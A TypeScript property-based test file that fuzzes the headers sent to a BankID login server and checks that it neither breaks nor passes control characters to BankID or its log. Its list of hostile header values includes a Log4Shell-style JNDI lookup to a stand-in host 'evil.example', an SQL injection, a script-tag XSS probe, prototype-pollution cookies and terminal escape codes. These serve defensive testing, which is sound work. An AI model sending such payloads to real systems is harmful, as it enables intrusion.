import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { BankIdEvent } from "../../src/index.ts";
import type { FakeBankId } from "../fake-bankid.ts";
import { application, closeServers, listen, publicOrigin } from "../support/app.ts";
import type { RawAnswer } from "../support/raw-http.ts";
import { sendRaw } from "../support/raw-http.ts";
import { reportVolume, volume } from "../support/volume-report.ts";

const requests = volume(5_000, 4);

let client: FakeBankId;
let events: BankIdEvent[];
let base: string;
beforeAll(async () => {
  // The proxy in front of this app passes on whatever it is told.
  const opened = application({ limits: false }, (app) => app.set("trust proxy", "loopback"));
  ({ client, events } = opened);
  base = await listen(opened.app);
});
afterAll(closeServers);

const handle = "A".repeat(43);

/** What a header may hold on the wire: any byte but those that end it. */
const bytes = fc.uint8Array({ maxLength: 300 }).map((value) =>
  Buffer.from(value)
    .toString("latin1")
    .replaceAll(/[\0\r\n]/g, "?"),
);

const hostile = fc.oneof(
  bytes,
  fc.constantFrom(
    `bankid-dev=${handle}`,
    `bankid-dev=${handle}; bankid-dev=${handle}`,
    `bankid-dev="${handle}"`,
    `bankid-dev=${handle.slice(1)}`,
    "bankid-dev=__proto__; __proto__=1; constructor",
    `${"a=b; ".repeat(500)}bankid-dev=${handle}`,
    "\u001b[31mred\u001b[0m \u0007\u0008",
    "\u00e2\u0080\u00ae${jndi:ldap://evil.example/a}",
    "' OR 1=1 --, <script>alert(1)</script>",
    "x".repeat(5_000),
    // A soft hyphen, which a terminal does not show.
    "Mozilla/5.0\u00ad",
    "203.0.113.9, unknown, ::ffff:10.0.0.1, [::1]:8080",
    "0, -1, 1e999, NaN",
  ),
);

const names = ["Cookie", "User-Agent", "X-Forwarded-For", "Referer", "Accept-Language", "X-Request-Id"];

const headers = fc.uniqueArray(fc.tuple(fc.constantFrom(...names), hostile), {
  minLength: 1,
  maxLength: 4,
  selector: ([name]) => name,
});

describe("headers with anything in them (S15, S32, B3, B6, B7)", () => {
  it(`break nothing in ${requests} requests, and go to BankID and to the log as plain text`, async () => {
    const outcomes = new Map<string, number>();
    const property = fc.asyncProperty(
      headers,
      fc.constantFrom("auth", "collect", "cancel"),
      async (given, route) => {
        const before = events.length;
        const answer = await sendRaw(base, {
          target: `/bankid/${route}`,
          headers: [
            ["Host", "localhost:3000"],
            ["Origin", publicOrigin],
            ["Content-Type", "application/json"],
            ...given,
          ],
          body: JSON.stringify(route === "auth" ? { mode: "qr" } : { flow: "AAAAAAAAAAAAAAAAAAAAAA" }),
        });
        const outcome = outcomeOf(answer);
        expect(outcome).toBeOneOf([
          "200",
          // Node's own, for what no header may hold.
          "400",
          "400 duplicate_cookie",
          "404 flow_unknown",
          // An address that is none: BankID must be told one (S14).
          "500 internal",
        ]);
        expect(printable(JSON.stringify(events.slice(before)))).toBe(true);
        outcomes.set(outcome, (outcomes.get(outcome) ?? 0) + 1);
      },
    );
    await fc.assert(property, { numRuns: requests });
    for (const { request } of client.orders) {
      expect(request.endUserIp).toMatch(/^[0-9a-f.:]+$/);
      const { userAgent = "" } = request.web ?? {};
      expect(userAgent.length).toBeLessThanOrEqual(256);
      expect(printable(userAgent)).toBe(true);
    }
    const refused = events.filter(({ type }) => type === "error").map((event) => JSON.stringify(event));
    expect(refused.filter((event) => !event.includes("not an IP address"))).toEqual([]);
    reportVolume({
      what: "Strange headers (S15, S32)",
      volume: `${requests} requests`,
      result: [...outcomes].map(([outcome, times]) => `${times} × ${outcome}`).join(", "),
    });
  });
});

function outcomeOf({ status, body }: RawAnswer): string {
  const { error } = JSON.parse(body || "{}") as { error?: string };
  return error === undefined ? String(status) : `${status} ${error}`;
}

/** No character that a terminal or a log would act upon. */
function printable(text: string): boolean {
  return !/[\p{Cc}\p{Cf}\u2028\u2029]/u.test(text);
}
